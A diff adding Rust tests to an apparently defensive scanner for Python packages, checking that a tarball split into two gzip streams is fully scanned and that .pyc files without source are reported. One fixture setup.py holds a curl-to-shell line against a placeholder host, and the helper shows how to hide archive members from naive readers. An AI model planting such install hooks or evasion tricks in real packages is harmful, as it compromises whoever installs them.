@@ -321,3 +321,70 @@ fn a_distribution_whose_metadata_is_a_device_or_a_fifo_does_not_stall_the_audit(
         doc["findings"].as_array().unwrap().iter().filter_map(|f| f["rule_id"].as_str()).collect();
     assert!(rules.contains(&"PSB201"), "{doc}");
 }
+
+/// A tarball of `members`, in two gzip streams cut mid-archive: Python's `tarfile` (and so pip)
+/// reads every stream of a gzip file.
+fn two_stream_sdist(path: &Path, members: &[(&str, &[u8])]) {
+    let mut builder = tar::Builder::new(Vec::new());
+    for (name, data) in members {
+        let mut header = tar::Header::new_gnu();
+        header.set_size(data.len() as u64);
+        header.set_mode(0o644);
+        header.set_entry_type(tar::EntryType::Regular);
+        builder.append_data(&mut header, name, *data).unwrap();
+    }
+    let whole = builder.into_inner().unwrap();
+    let mut file = std::fs::File::create(path).unwrap();
+    for part in [&whole[..1024], &whole[1024..]] {
+        let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
+        gz.write_all(part).unwrap();
+        file.write_all(&gz.finish().unwrap()).unwrap();
+    }
+}
+
+#[test]
+fn members_hidden_past_the_first_gzip_stream_are_scanned() {
+    let dir = repo();
+    two_stream_sdist(
+        &dir.path().join("split-1.0.tar.gz"),
+        &[
+            ("split-1.0/README", b"hello\n"),
+            ("split-1.0/setup.py", b"import os\nos.system('curl http://x.invalid/a | sh')\n"),
+        ],
+    );
+    let out =
+        pysbx(dir.path()).args(["scan", "--format", "json", "split-1.0.tar.gz"]).output().unwrap();
+    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
+    let doc = json(&out);
+    let findings = doc["findings"].as_array().unwrap();
+    assert!(
+        findings.iter().any(|f| f["path"] == "split-1.0.tar.gz!/split-1.0/setup.py"
+            && f["name"] == "download-pipe-to-shell"),
+        "{doc}"
+    );
+}
+
+#[test]
+fn compiled_python_without_source_is_reported_in_trees_and_archives() {
+    let dir = repo();
+    make_wheel(
+        &dir.path().join("dark-1.0-py3-none-any.whl"),
+        &[("dark/__init__.py", b"from . import core\n"), ("dark/core.pyc", b"\x00\x00")],
+    );
+    write(dir.path(), "site-packages/dark/__init__.py", "from . import core\n");
+    std::fs::write(dir.path().join("site-packages/dark/core.pyc"), b"\x00\x00").unwrap();
+    let out = pysbx(dir.path())
+        .args(["scan", "--format", "json", "dark-1.0-py3-none-any.whl", "site-packages"])
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
+    let doc = json(&out);
+    let errors = doc["errors"].as_array().unwrap();
+    let named = |path: &str| {
+        errors.iter().any(|e| {
+            e["path"] == path && e["message"].as_str().unwrap().contains("without its source")
+        })
+    };
+    assert!(named("dark-1.0-py3-none-any.whl!/dark/core.pyc"), "{doc}");
+    assert!(named("site-packages/dark/core.pyc"), "{doc}");
+}
